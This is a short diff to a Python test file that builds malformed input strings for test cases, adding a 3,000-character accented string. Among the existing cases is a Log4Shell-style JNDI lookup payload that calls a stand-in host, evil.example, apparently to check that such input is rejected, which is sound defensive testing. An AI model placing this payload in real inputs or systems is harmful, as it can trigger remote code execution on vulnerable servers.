@@ -88,6 +88,7 @@ def foreign(operations: list[Operation], there: Province) -> Iterator[Case]:
         "a NUL": "e00000000000000\0",
         "in capitals": ABSENT["e"].upper(),
         "one letter too long": ABSENT["e"] + "0",
+        "of 3,000 letters with marks": "é" * 3_000,
         "full-width": "ｅ" + "０" * 16,
         "a template": "${jndi:ldap://evil.example}",
     } | {f"another province's {kind}": found for kind, found in others.items()}
